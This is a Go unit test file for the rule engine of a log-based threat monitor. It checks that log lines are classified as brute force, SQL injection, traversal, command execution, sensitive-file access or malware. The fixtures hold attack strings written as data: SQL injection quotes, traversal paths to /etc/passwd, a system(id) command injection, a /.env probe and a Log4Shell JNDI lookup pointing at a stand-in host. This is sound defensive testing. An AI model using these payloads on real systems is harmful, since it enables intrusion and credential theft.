package rules

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/viniciushammett/go-threat-monitor/internal/model"
	"github.com/viniciushammett/go-threat-monitor/internal/parser"
)

func access(url string) model.LogRecord {
	line := `203.0.113.9 - - [10/Oct/2024:13:55:36 +0000] "GET ` + url + ` HTTP/1.1" 200 512 "-" "Mozilla/5.0"`
	return parser.Parse(parser.Access, "web", line)
}

func TestDefaultClassify(t *testing.T) {
	rs := Default()
	tests := []struct {
		name    string
		rec     model.LogRecord
		want    model.Category
		subject string
		matched bool
	}{
		{"ssh failed", parser.Parse(parser.Auth, "auth", "Oct 10 13:55:36 host sshd[1]: Failed password for invalid user admin from 192.0.2.1 port 22 ssh2"), model.BruteForce, "192.0.2.1", true},
		{"ssh invalid", parser.Parse(parser.Auth, "auth", "Oct 10 13:55:36 host sshd[1]: Invalid user test from 192.0.2.9 port 4000"), model.BruteForce, "192.0.2.9", true},
		{"sqli quote", access("/item?id=1%27%20OR%201=1"), model.SQLInjection, "203.0.113.9", true},
		{"traversal", access("/static/../../etc/passwd"), model.PathTraversal, "203.0.113.9", true},
		{"rce", access("/cgi?cmd=system(id)"), model.RemoteCodeExecution, "203.0.113.9", true},
		{"sensitive", access("/.env"), model.SensitiveFileAccess, "203.0.113.9", true},
		{"recon", access("/wp-login.php"), model.Reconnaissance, "203.0.113.9", true},
		{"malware raw", parser.Parse(parser.Raw, "app", "payload ${jndi:ldap://evil/a}"), model.MalwareSignature, model.NoSubject, true},
		{"benign access", access("/index.html"), "", "", false},
		{"benign auth", parser.Parse(parser.Auth, "auth", "Oct 10 13:55:36 host sshd[1]: Accepted publickey for deploy from 192.0.2.4 port 5000 ssh2"), "", "", false},
		{"error log traversal", parser.Parse(parser.Raw, "nginx-error", `2024/10/10 13:55:36 [error] 12#12: *5 open() failed, client: 198.51.100.7, request: "GET /../../etc/passwd HTTP/1.1"`), model.PathTraversal, model.NoSubject, true},
		{"raw sqli request", parser.Parse(parser.Raw, "app", "GET /index.php?id=1' OR '1'='1"), model.SQLInjection, model.NoSubject, true},
		{"malformed access traversal", parser.Parse(parser.Access, "web", `203.0.113.9 - - [10/Oct/2024:13:55:36 +0000] "\x16\x03 /../../etc/passwd" 400 0 "-" "-"`), model.PathTraversal, "203.0.113.9", true},
		{"cut access rce", parser.Parse(parser.Access, "web", `203.0.113.9 - - [10/Oct/2024:13:55:36 +0000] "GET /cgi?cmd=system(id)`), model.RemoteCodeExecution, "203.0.113.9", true},
		{"raw without request", parser.Parse(parser.Raw, "app", "worker 3 done; took 12ms # ok"), "", "", false},
		{"sudo line not sqli", parser.Parse(parser.Auth, "auth", "Oct 10 host sudo: bob : TTY=pts/0 ; PWD=/home/bob ; COMMAND=/bin/ls"), "", "", false},
	}
	for _, tt := range tests {
		got, ok := rs.Classify(tt.rec)
		if ok != tt.matched || got.Category != tt.want || (ok && got.Subject != tt.subject) {
			t.Fatalf("%s: got=%+v ok=%v want=%v subject=%q", tt.name, got, ok, tt.want, tt.subject)
		}
	}
}

func TestBruteForceSubjectAmidNoise(t *testing.T) {
	rs := Default()
	line := "Oct 10 13:55:36 host sshd[1]: Failed password for root from 10.1.2.3 port 22 ssh2 ; '--' extra ../ noise"
	m, ok := rs.Classify(parser.Parse(parser.Raw, "auth", line))
	if !ok || m.Category != model.BruteForce || m.Subject != "10.1.2.3" {
		t.Fatalf("got %+v ok=%v", m, ok)
	}
}

func TestFirstMatchWinsAndDeterministic(t *testing.T) {
	rs := Default()
	rec := access("/../../etc/passwd%27")
	first, _ := rs.Classify(rec)
	if first.Category != model.SQLInjection {
		t.Fatalf("sql-injection precedes traversal, got %v", first.Category)
	}
	for i := 0; i < 50; i++ {
		if got, _ := rs.Classify(rec); got != first {
			t.Fatalf("non deterministic: %+v vs %+v", got, first)
		}
	}
}

func TestLoadFromFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "rules.yaml")
	yml := `
- name: admin-scan
  category: reconnaissance
  severity: low
  field: url
  pattern: '^/admin'
- name: custom
  category: made-up
  pattern: 'FORBIDDEN'
`
	if err := os.WriteFile(path, []byte(yml), 0o644); err != nil {
		t.Fatal(err)
	}
	rs, err := LoadFromFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if rs.Len() != 2 {
		t.Fatalf("want 2 rules, got %d", rs.Len())
	}
	m, ok := rs.Classify(parser.Parse(parser.Raw, "app", "a FORBIDDEN thing"))
	if !ok || m.Category != model.Unclassified || m.Severity != "medium" {
		t.Fatalf("unknown category should map to unclassified: %+v", m)
	}
	if _, ok := rs.Classify(access("/admin/panel")); !ok {
		t.Fatal("url rule did not match")
	}
}

func TestInvalidRules(t *testing.T) {
	if _, err := New([]Rule{{Name: "bad", Pattern: "("}}); err == nil {
		t.Fatal("expected regex error")
	}
	if _, err := New([]Rule{{Name: "bad", Pattern: "x", Field: "headers"}}); err == nil {
		t.Fatal("expected field error")
	}
	if _, err := LoadFromFile(filepath.Join(t.TempDir(), "missing.yaml")); err == nil {
		t.Fatal("expected read error")
	}
}
